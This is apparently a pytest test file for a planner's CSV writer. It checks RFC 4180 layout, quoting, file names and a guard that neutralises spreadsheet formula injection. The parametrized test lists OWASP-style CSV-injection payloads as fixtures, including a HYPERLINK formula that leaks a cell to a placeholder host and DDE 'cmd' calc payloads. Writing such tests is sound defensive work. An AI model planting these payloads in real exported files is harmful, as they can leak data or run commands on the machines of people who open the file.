"""The shared CSV writer: RFC 4180 layout, quoted text and bare numbers, the spreadsheet-formula guard
whatever delimiter a spreadsheet splits on, what-if file names and columns."""

import csv
import io
import re

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.csv_writer import file_name, neutralise, number, table_csv


def rows():
    yield ["scenario", "day", "stock-out risk [probability]"]
    yield [None, 0, number(0.0)]
    yield [None, 1, number(1 / 3)]
    yield [None, np.int64(2), np.float64(1e-300)]


def read(text: str, **dialect) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), **dialect))


def test_rfc_4180_layout():
    text = table_csv(rows(), title='Crates, "big" ones')
    lines = text.split("\r\n")
    assert lines[-1] == "" and all("\n" not in line for line in lines)  # CRLF after every record
    assert lines[1].startswith('"Crates, ""big"" ones",0,')  # comma and quote inside a field: quoted, doubled
    assert len({len(row) for row in read(text)}) == 1
    assert float(read(text)[2][2]) == 1 / 3  # repr precision: the float comes back exactly
    assert float(read(text)[3][2]) == 1e-300


def test_text_is_quoted_and_numbers_are_not():
    text = table_csv(rows(), title="Rye 2024", changes=["start stock 4 → 2 units"])
    lines = text.split("\r\n")
    # the header is text; a number-looking title is still text; numbers stay bare so spreadsheets add them up
    assert lines[0] == '"scenario","day","stock-out risk [probability]","plan version","what-if changes"'
    assert lines[1] == '"Rye 2024",0,0.0,"what-if","start stock 4 → 2 units"'
    assert lines[3] == '"Rye 2024",2,1e-300,"what-if","start stock 4 → 2 units"'


def test_saved_plan_and_whatif_name_themselves():
    saved = read(table_csv(rows(), title="Flour silo"))
    assert saved[0][-2:] == ["plan version", "what-if changes"]
    assert saved[1][-2:] == ["saved plan", ""]
    whatif = read(table_csv(rows(), title="Flour silo", changes=["start stock 45 → 30 units", "horizon 56 → 28 days"]))
    assert whatif[1][-2:] == ["what-if", "start stock 45 → 30 units; horizon 56 → 28 days"]


@pytest.mark.parametrize(
    ("title", "written"),
    [
        # Payloads as OWASP's "CSV Injection" page shows them (from memory).
        ('=HYPERLINK("http://x.invalid?leak="&A1,"Open")', '\'=HYPERLINK("http://x.invalid?leak="&A1,"Open")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t'=1"),  # the tab itself, and what follows it for a reader splitting on tabs
        ("\r=1", "'\r'=1"),
        # A formula after a delimiter some spreadsheet might split on.
        ("x;=1+1", "x;'=1+1"),
        ("x,=1+1", "x,'=1+1"),
        ("x|@SUM(A1)", "x|'@SUM(A1)"),
        ('x; "=1+1"', 'x; "\'=1+1"'),
        ("Freezer -2+3", "Freezer '-2+3"),
        ("  =1", "  '=1"),  # some readers trim leading spaces
        # A sign then a digit that computes nothing keeps its text.
        ("-20 C freezer", "-20 C freezer"),
        ("+44 stores", "+44 stores"),
        ("Flour silo - winter", "Flour silo - winter"),
        ("Oven igniters, -5 spare", "Oven igniters, -5 spare"),
        ("stock-out at 3 °C", "stock-out at 3 °C"),
        ("- winter", "'- winter"),  # a sign not followed by a digit
        ("-20%", "'-20%"),
    ],
)
def test_formula_starts_are_neutralised_wherever_a_reader_may_split(title, written):
    assert neutralise(title) == written
    table = read(table_csv(rows(), title=title, changes=[title]))
    assert all(row[0] == written and row[-1] == written for row in table[1:])


# Readers a spreadsheet user may pick: any of these delimiters, with or without honouring quotes, after
# cutting records at any line break (bare CR or LF inside a quoted field included).
READERS = [
    {"delimiter": d, "quoting": quoting}
    for d in (",", ";", "\t", "|", " ")
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE)
]
# Independent of the writer's rule: a cell a spreadsheet may treat as a formula starts (after spaces and
# quotes) with = + - @ tab CR LF (OWASP), unless it is a sign alone, or a sign, a digit, and then only
# letters, digits, spaces and punctuation no formula operator uses.
HARMLESS_SIGNED = re.compile(r"[+-]([0-9][A-Za-z0-9 .,:;'\"?°]*)?")
# One field as written: quoted (quotes doubled inside) or bare, then a comma or the end of a record.
WRITTEN_FIELD = re.compile(r'("(?:[^"]|"")*"|[^,\r\n"]*)(?:,|\r\n|$)')


def formula_cells(text: str) -> list[str]:
    """Cells that some reader would see starting with a formula.

    Each written field is read on its own: whatever a reader makes of a line, each cell it produces
    starts at the start of a field or inside one, and what runs past that field's end is a comma
    followed by bare numbers and quoted text, which a formula reads as literals.
    """
    found = []
    for field in (m.group(1) for m in WRITTEN_FIELD.finditer(text) if m.group(1)):
        for line in re.split(r"\r\n|\r|\n", field):
            for reader in READERS:
                for row in csv.reader([line], **reader):
                    for cell in row:
                        body = cell.lstrip(' "')
                        if body[:1] in ("=", "+", "-", "@", "\t") and not HARMLESS_SIGNED.fullmatch(body.rstrip('"')):
                            found.append(cell)
    return found


def test_the_reader_check_finds_formulas_when_nothing_guards_them():
    # The check below could fail: text written without the guard.
    assert formula_cells('"x;=1+1"') and formula_cells('"a b",-2+3') and formula_cells('"a\r=1"')
    assert not formula_cells('"-20 C freezer",0,"b"') and not formula_cells('"Flour silo - winter"')


TEXT = st.text(alphabet=st.sampled_from(list("ab7 -+=@;,|\t\r\n\"'()!*%.:°")), max_size=24)


@settings(max_examples=400, deadline=None)
@given(TEXT)
def test_no_reader_sees_a_formula_and_nothing_is_lost(title):
    written = neutralise(title)
    assert written.replace("'", "") == title.replace("'", "")  # only apostrophes were added
    assert neutralise(written) == written  # and once is enough
    text = table_csv(rows(), title=title, changes=[title])
    assert not formula_cells(text), (title, text)
    if not set(title) & set("=+-@\t\r\n"):
        assert written == title  # text that cannot start a formula is never touched


def test_file_names_come_from_the_title():
    assert file_name("Flour silo: week 12", "risk-curves") == "flour-silo-week-12-risk-curves.csv"
    assert file_name("Flour silo", "risk-curves", whatif=True) == "flour-silo-whatif-risk-curves.csv"
    assert file_name("=cmd|' /C calc'!A0", "stock-by-period") == "cmd-c-calca0-stock-by-period.csv"
    assert file_name("???", "risk-by-start") == "scenario-risk-by-start.csv"
